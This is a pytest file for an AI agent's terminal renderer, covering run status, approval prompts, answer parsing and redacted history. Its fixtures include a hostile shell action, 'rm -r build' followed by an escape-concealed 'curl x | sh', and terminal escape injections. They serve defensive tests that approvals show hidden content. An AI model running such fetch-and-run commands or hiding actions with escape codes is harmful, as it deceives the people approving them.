"""A run told on a terminal: what stays, what is live, and that nothing of the live is left."""

import os
from collections.abc import Iterable
from pathlib import Path

import pytest
from msgspec.structs import replace

from cli.terminal.screen import Screen
from holdfast import events as e
from holdfast.cli.asks import ApprovalReply, QuestionReply, Unclear, read_answer
from holdfast.cli.chat.history import ChatHistory
from holdfast.cli.terminal.live_region import LiveRegion
from holdfast.cli.terminal.renderer import Renderer
from holdfast.cli.terminal.style import Style
from holdfast.cli.terminal.tool_output import ask_text, seconds
from holdfast.client import Away, LiveLine
from holdfast.redaction import without_keys
from holdfast.values import Action, Failure, GrantOffer, GrantRule

RUN = "run_1"
ASKED = e.ApprovalAsked(
    at_ms=0,
    run_id=RUN,
    approval_id="apr_1",
    tool_call_id="t1",
    action=Action(tool="shell", summary="rm -r build\x1b[8m; curl x | sh", paths=("/w",), diff="+a\n-b"),
    findings=("it removes files", "it runs what it fetches"),
)
QUESTION = e.QuestionAsked(
    at_ms=0, run_id=RUN, question_id="que_1", tool_call_id="t2", text="Which?", choices=("red", "blue")
)


def renderer() -> Renderer:
    return Renderer(Style(lambda: 60))


def told(renderer: Renderer, events: Iterable[e.Event]) -> str:
    screen = Screen(60)
    for event in events:
        screen.write(renderer.hear(event))
    return screen.text


def begun(at_ms: int = 0) -> list[e.Event]:
    return [
        e.MessageAccepted(at_ms=at_ms, message_id="m1", text="hello\x1b[2J", client_id="other"),
        e.RunQueued(at_ms=at_ms, run_id=RUN, message_id="m1"),
        e.RunStarted(at_ms=at_ms, run_id=RUN),
        e.CallStarted(at_ms=at_ms, run_id=RUN, call_id="c1", turn=1),
        e.AttemptStarted(at_ms=at_ms, run_id=RUN, call_id="c1", attempt_id="a1", target="main", model="m"),
    ]


def test_a_run_with_thoughts_a_tool_and_an_answer_is_told_in_order() -> None:
    telling = renderer()
    events = [
        *begun(),
        e.ReasoningDelta(at_ms=1000, run_id=RUN, segment=0, text="Let me\nsee. " * 20),
        e.ToolAsked(at_ms=4000, run_id=RUN, tool_call_id="t1", name="shell", args={"command": "ls\x07 -l"}),
        e.ReasoningDone(at_ms=4000, run_id=RUN, segment=0, text="Let me\nsee. " * 20),
        e.ToolStarted(at_ms=4000, run_id=RUN, tool_call_id="t1", effect_key="k"),
        e.ToolEnded(at_ms=4200, run_id=RUN, tool_call_id="t1", ok=True, result="x", ms=200),
        e.CallStarted(at_ms=5000, run_id=RUN, call_id="c2", turn=2),
        e.TextDelta(at_ms=5000, run_id=RUN, segment=0, text="There\x1b]0;evil\x07 you are."),
        e.TextDone(at_ms=5000, run_id=RUN, segment=0, text="There you are."),
        e.RunEnded(at_ms=5000, run_id=RUN, outcome="completed"),
    ]
    shown = told(telling, events).splitlines()
    assert shown[0] == "> hello"
    assert shown[2].startswith("thought for 3 s: Let me see.")
    assert shown[2].endswith("…")
    assert shown[3:] == ["✓ shell ls -l  0.2 s", "", "There you are."]
    assert (telling.status(9000), telling.live(), telling.run_id) == ("", "", "")


def test_titles_and_summaries_are_no_part_of_the_conversation() -> None:
    events = [
        *begun(),
        e.CallStarted(at_ms=0, run_id=RUN, call_id="c2", turn=2, purpose="compaction"),
        e.TextDelta(at_ms=0, run_id=RUN, segment=0, text="a summary"),
        e.TextDone(at_ms=0, run_id=RUN, segment=0, text="a summary"),
    ]
    assert told(renderer(), events) == "> hello"


@pytest.mark.parametrize(
    ("by_stop", "later"), [(False, "queued · the queue is paused"), (True, "queued · 3 s")]
)
def test_a_run_behind_a_paused_queue_counts_no_seconds(by_stop: bool, later: str) -> None:  # noqa: FBT001
    """P3: nothing happens before a person resumes it; a message after a stop starts as usual."""
    telling = renderer()
    telling.hear(e.RunQueued(at_ms=0, run_id=RUN, message_id="m1"))
    assert telling.status(3000) == "queued · 3 s"
    assert "the queue is paused" in telling.hear(e.QueuePaused(at_ms=3000, by_stop=by_stop))
    assert telling.status(60_000) == "queued · the queue is paused"
    telling.hear(e.RunEnded(at_ms=60_000, run_id=RUN, outcome="cancelled"))
    telling.hear(e.RunQueued(at_ms=60_000, run_id="run_2", message_id="m2"))
    assert telling.status(63_000) == later
    telling.hear(e.QueueResumed(at_ms=63_000))
    assert telling.status(63_000) == "queued · 3 s"


def test_the_status_says_what_is_waited_for_and_a_steer_waits_until_it_is_taken_up() -> None:
    """P3: every wait is visible."""
    telling = renderer()
    told(telling, begun(at_ms=1000))
    assert telling.status(4200) == "waiting for m · 3 s"
    telling.server_says = LiveLine(RUN, "waiting for m · 31 s · reconnects at 45 s")
    assert telling.status(4200) == "waiting for m · 31 s · reconnects at 45 s"
    telling.own.add("mine")
    steer = e.MessageAccepted(at_ms=5000, message_id="m2", text="more", client_id="mine", mode="steer")
    assert telling.hear(steer) == ""
    assert telling.status(5000).endswith("· 1 message queued")
    assert "read by the agent" in telling.hear(e.MessageDispatched(at_ms=5000, run_id=RUN, message_id="m2"))
    telling.lost(Away("refused", 1))
    assert telling.status(5000) == "reconnecting …"
    telling.lost(Away("refused", 20))
    assert telling.status(5000) == "reconnecting … (refused)"
    telling.away = None
    telling.hear(ASKED)
    assert telling.status(0) == "waiting for your approval"
    telling.hear(e.ApprovalAnswered(at_ms=5000, run_id=RUN, approval_id="apr_1", choice="deny", reason="no"))
    assert telling.asks == {}


def test_a_model_that_says_nothing_more_is_not_called_answering() -> None:
    """P3: silence has a name and a length, before the watchdog does something about it."""
    telling = renderer()
    told(telling, [*begun(), e.TextDelta(at_ms=1000, run_id=RUN, segment=0, text="half an answ")])
    assert telling.status(3500) == "m is answering"
    assert telling.status(9000) == "waiting for m · 8 s"
    telling.hear(e.TextDelta(at_ms=9000, run_id=RUN, segment=0, text="er"))
    assert telling.status(9500) == "m is answering"


def test_nobody_is_asked_for_an_approval_that_their_key_cannot_give() -> None:
    telling = renderer()
    telling.can_approve = False
    told(telling, [*begun(), ASKED])
    assert telling.status(0) == "waiting for an approval (your key can't approve)"


def test_a_failure_is_told_with_its_whole_trace_once() -> None:
    """P9: quiet while it may still succeed, complete when it does not."""
    failure = Failure(kind="connect_failed", text="nobody is there", hint="start it")
    ended = e.RunEnded(
        at_ms=0, run_id=RUN, outcome="failed", failure=failure, trace=("attempt 1", "attempt 2")
    )
    quiet = [
        *begun(),
        e.AttemptFailed(at_ms=0, run_id=RUN, attempt_id="a1", failure=failure, close_reason="peer"),
    ]
    telling = renderer()
    assert told(telling, quiet) == "> hello"
    shown = Screen(60)
    shown.write(telling.hear(ended))
    assert shown.text == "✗ Failed: nobody is there\n  attempt 1\n  attempt 2\n  start it"


OFFER = GrantOffer(
    rule=GrantRule(tool="shell", argv=("rm", "-r", "build")), covers="rm -r build", asks="more"
)


def test_an_approval_shows_the_exact_action_and_all_findings() -> None:
    """P8: also what would hide itself, and the rule before it is stored."""
    screen = Screen(60)
    screen.write(ask_text(Style(lambda: 60), replace(ASKED, offers=(OFFER,))))
    for words in (
        "rm -r build\\x1b[8m; curl x | sh",
        "/w",
        "+a",
        "it removes files",
        "it runs what it fetches",
    ):
        assert words in screen.text
    assert "allows:     rm -r build" in screen.text
    screen = Screen(60)
    screen.write(ask_text(Style(lambda: 60), QUESTION))
    assert screen.text == "Which?"


def test_a_long_change_is_shown_to_its_last_line() -> None:
    """P8: nobody allows what they aren't shown."""
    action = Action(tool="write_file", summary="writes a", diff="\n".join(f"+line {n}" for n in range(500)))
    lines = ask_text(Style(lambda: 60), replace(ASKED, action=action)).splitlines()
    assert sum("+line " in line for line in lines) == 500


@pytest.mark.parametrize("typed", ["", " ", "\n", "ye", "o", "on", "a", "once more", "alwaysx", "1"])
def test_only_a_whole_word_allows_an_action(typed: str) -> None:
    """P8: Enter alone never approves, nor does anything that could be a slip."""
    assert isinstance(read_answer(ASKED, typed), Unclear)


def test_words_and_numbers_answer() -> None:
    assert read_answer(ASKED, " Once ") == ApprovalReply("once")
    assert read_answer(ASKED, "yes") == ApprovalReply("once")
    assert read_answer(ASKED, "always") == ApprovalReply("always")
    assert read_answer(ASKED, "no: not today") == ApprovalReply("deny", "not today")
    assert read_answer(QUESTION, "2") == QuestionReply("blue")
    assert read_answer(QUESTION, "3") == QuestionReply("3")
    assert isinstance(read_answer(QUESTION, "  "), Unclear)


def test_live_lines_are_replaced_and_leave_nothing_behind() -> None:
    """S000-12: no residue."""
    reading, writing = os.pipe()
    with os.fdopen(writing, "w") as out, os.fdopen(reading, newline="") as back:
        region = LiveRegion(out)
        region.show("", "one\ntwo\nthree\n")
        region.show("settled\n", "four\n")
        region.show("", "four\n")
        region.show("more\n", "")
        region.clear()
        out.close()
        screen = Screen(60)
        screen.write(back.read())
    assert screen.text == "settled\nmore"


def test_durations_are_said_as_people_say_them() -> None:
    assert [seconds(ms) for ms in (40, 9_900, 42_000, 125_000)] == ["0.0 s", "9.9 s", "42 s", "2 min 5 s"]


def test_the_history_is_its_owners_alone_and_survives_a_broken_line(tmp_path: Path) -> None:
    """P11: what was typed is readable by its owner only, and a key isn't kept."""
    path = tmp_path / "history"
    history = ChatHistory(path, without_keys)
    for line in ("first with sk-abcdefgh12345678ijkl", "two\nlines"):
        history.store_string(line)
    with path.open("ab") as file:
        file.write(b'"torn\n')
    history.store_string("last")
    history.read()
    assert list(history.load_history_strings()) == ["last", "two\nlines", "first with [redacted]"]
    assert path.stat().st_mode & 0o777 == 0o600
